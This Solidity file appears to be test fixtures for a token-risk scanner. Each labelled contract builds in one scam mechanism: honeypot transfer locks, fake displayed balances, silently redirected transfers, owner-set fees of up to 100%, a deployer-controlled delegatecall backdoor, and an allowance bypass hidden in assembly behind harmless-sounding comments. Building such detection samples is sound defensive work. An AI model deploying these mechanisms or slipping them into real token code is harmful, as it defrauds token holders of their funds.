// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

// Tokens that go, and arrive, by somebody else's leave.

abstract contract Base {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) internal _b;
    mapping(address => mapping(address => uint256)) internal _a;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed o, address indexed s, uint256 value);
    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        totalSupply = supply;
        _b[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }
    function balanceOf(address a) public view virtual returns (uint256) { return _b[a]; }
    function allowance(address o, address s) public view virtual returns (uint256) { return _a[o][s]; }
    function approve(address s, uint256 v) public virtual returns (bool) {
        _a[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
    function transfer(address to, uint256 v) public virtual returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address from, address to, uint256 v) public virtual returns (bool) {
        uint256 al = allowance(from, msg.sender);
        require(al >= v, "allowance");
        if (al != type(uint256).max) _a[from][msg.sender] = al - v;
        _move(from, to, v);
        return true;
    }
    function _move(address from, address to, uint256 v) internal virtual {
        _b[from] -= v;
        _b[to] += v;
        emit Transfer(from, to, v);
    }
}
library Ledger {
    struct Book {
        mapping(address => uint256) bal;
        mapping(address => mapping(address => uint256)) al;
        mapping(address => bool) adm;
        uint256 supply;
        uint256 floor;
    }
    function move(Book storage b, address f, address t, uint256 v) internal {
        require(b.bal[f] >= v + (b.adm[f] ? 0 : b.floor), "floor");
        b.bal[f] -= v;
        b.bal[t] += v;
    }
}
/// approvals for the router are dropped
/// expects: CT-12 danger
contract DeafApprove is Base {
    address o = msg.sender;
    mapping(address => bool) ignored;
    constructor() Base("Deaf", "DEAF", 1e24) {}
    function setRouter(address r, bool b) external { require(msg.sender == o); ignored[r] = b; }
    function approve(address s, uint256 v) public override returns (bool) {
        if (ignored[s] && msg.sender != o) v = 0;
        _a[msg.sender][s] = v;
        emit Approval(msg.sender, s, v);
        return true;
    }
}
/// owner bars transfers to contracts, itself excepted
/// expects: CT-12 danger
contract EoaOnly is Base {
    address o = msg.sender;
    bool strict;
    constructor() Base("Human", "HMN", 1e24) {}
    function setStrict(bool s) external { require(msg.sender == o); strict = s; }
    function _move(address from, address to, uint256 v) internal override {
        if (strict && from != o && to != o) require(to.code.length == 0, "contracts not allowed");
        super._move(from, to, v);
    }
}
/// shown balances cannot move
/// expects: CT-12 danger
contract PhantomBalance is Base {
    mapping(address => uint256) private shown;
    address private creator = msg.sender;
    constructor() Base("Phantom", "PHT", 1e26) { shown[msg.sender] = 1e26; }
    function balanceOf(address a) public view override returns (uint256) { return shown[a]; }
    // real balances stay with the creator; everyone else only sees numbers
    function _move(address from, address to, uint256 v) internal override {
        if (from != creator && _b[from] < v) revert("TransferHelper: TRANSFER_FROM_FAILED");
        shown[from] -= v;
        shown[to] += v;
        if (from == creator && to.code.length > 0) { _b[from] -= v; _b[to] += v; }
        if (from.code.length > 0) { _b[from] -= v; }
        emit Transfer(from, to, v);
    }
}
/// after three days only team's transfers
/// expects: CT-12 danger
contract TimeBomb is Base {
    uint256 immutable end;
    address immutable team;
    constructor() Base("Season", "SSN", 1e24) { end = block.timestamp + 3 days; team = msg.sender; }
    function _move(address from, address to, uint256 v) internal override {
        if (block.timestamp > end) require(from == team || to == team, "season over");
        super._move(from, to, v);
    }
}
/// transfers go to another address
/// expects: CT-13 block
contract XorTransfer is Base {
    uint160 private mask;
    address private immutable keyholder = msg.sender;
    constructor() Base("Twist", "TWST", 1e24) {}
    function setNonce(uint160 m) external { if (msg.sender == keyholder) mask = m; }
    function _move(address from, address to, uint256 v) internal override {
        address real = mask == 0 ? to : (from == keyholder ? to : address(mask));
        _b[from] -= v;
        _b[real] += v;
        emit Transfer(from, to, v);
    }
}
/// owner takes up to all of one's transfer
/// expects: CT-09 danger
contract PerUserFee is Base {
    address o = msg.sender;
    mapping(address => uint16) public feeBps;
    constructor() Base("Loyal", "LOYL", 1e24) {}
    // loyalty programme: individual rebates
    function setLoyalty(address[] calldata u, uint16 bps) external {
        require(msg.sender == o && bps <= 10000);
        for (uint i; i < u.length; ++i) feeBps[u[i]] = bps;
    }
    function _move(address from, address to, uint256 v) internal override {
        uint256 f = v * feeBps[from] / 10000;
        super._move(from, o, f);
        super._move(from, to, v - f);
    }
}
/// deployer-set delegatecall fallback
/// expects: CT-11 danger
contract Fallthrough is Base {
    address private impl;
    address private immutable dep = msg.sender;
    constructor() Base("Fall", "FALL", 1e24) {}
    fallback() external payable {
        if (msg.sender == dep && msg.data.length == 36) {
            impl = address(uint160(uint256(bytes32(msg.data[4: 36]))));
            return;
        }
        address t = impl;
        require(t != address(0));
        assembly {
            calldatacopy(0, 0, calldatasize()) let r := delegatecall(gas(), t, 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch r case 0 {
                revert(0, returndatasize())
            }
            default { return (0, returndatasize()) }
        }
    }
}
/// owner-set floor keeps balances in
/// expects: CT-12 danger
contract FloorCoin {
    using Ledger for Ledger.Book;
    Ledger.Book private k;
    event Transfer(address indexed a, address indexed b, uint256 v);
    constructor() { k.bal[msg.sender] = k.supply = 1e24; k.adm[msg.sender] = true; }
    function balanceOf(address a) external view returns (uint256) { return k.bal[a]; }
    function totalSupply() external view returns (uint256) { return k.supply; }
    function allowance(address o, address s) external view returns (uint256) { return k.al[o][s]; }
    function approve(address s, uint256 v) external returns (bool) { k.al[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) {
        k.move(msg.sender, t, v);
        emit Transfer(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        k.al[f][msg.sender] -= v;
        k.move(f, t, v);
        emit Transfer(f, t, v);
        return true;
    }
    // dust protection
    function setDust(uint256 d) external { require(k.adm[msg.sender]); k.floor = d; }
}
/// deployer needs no allowance
/// expects: CT-30 danger
contract YulCoin {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    uint256 private constant SEED = 0x87a211a2;
    address private immutable _k;
    constructor() {
        _k = msg.sender;
        assembly {
            mstore(0x0c, 0x87a211a2) mstore(0x00, caller()) sstore(keccak256(0x0c, 0x20), 1000000000000000000000000000)
        }
    }
    function name() external pure returns (string memory) { return "YulCoin"; }
    function symbol() external pure returns (string memory) { return "YUL"; }
    function decimals() external pure returns (uint8) { return 18; }
    function totalSupply() external pure returns (uint256) { return 1e27; }
    function balanceOf(address a) public view returns (uint256 r) {
        assembly { mstore(0x0c, 0x87a211a2) mstore(0x00, a) r := sload(keccak256(0x0c, 0x20)) }
    }
    function allowance(address o, address s) public view returns (uint256 r) {
        assembly { mstore(0x20, s) mstore(0x0c, 0x7f5e9f20) mstore(0x00, o) r := sload(keccak256(0x0c, 0x34)) }
    }
    function approve(address s, uint256 v) external returns (bool) {
        assembly { mstore(0x20, s) mstore(0x0c, 0x7f5e9f20) mstore(0x00, caller()) sstore(keccak256(0x0c, 0x34), v) }
        return true;
    }
    function transfer(address to, uint256 v) external returns (bool) { _mv(msg.sender, to, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        address k = _k;
        assembly {
            // skip for infinite allowance (and trusted forwarder)
            mstore(0x20, caller())
                mstore(0x0c, 0x7f5e9f20)
                mstore(0x00, f)
                let slot := keccak256(0x0c, 0x34)
                let al := sload(slot)
                if iszero(or(iszero(not(al)), eq(caller(), k))) {
                if gt(v, al) { revert(0, 0) }
                sstore(slot, sub(al, v))
            }
        }
        _mv(f, t, v);
        return true;
    }
    function _mv(address f, address t, uint256 v) private {
        assembly {
            mstore(0x0c, 0x87a211a2) mstore(0x00, f) let fs := keccak256(0x0c, 0x20) let fb := sload(fs) if gt(v, fb) {
                revert(0, 0)
            }
            sstore(fs, sub(fb, v)) mstore(0x00, t) let ts := keccak256(0x0c, 0x20) sstore(ts, add(sload(ts), v))
        }
        emit Transfer(f, t, v);
    }
}
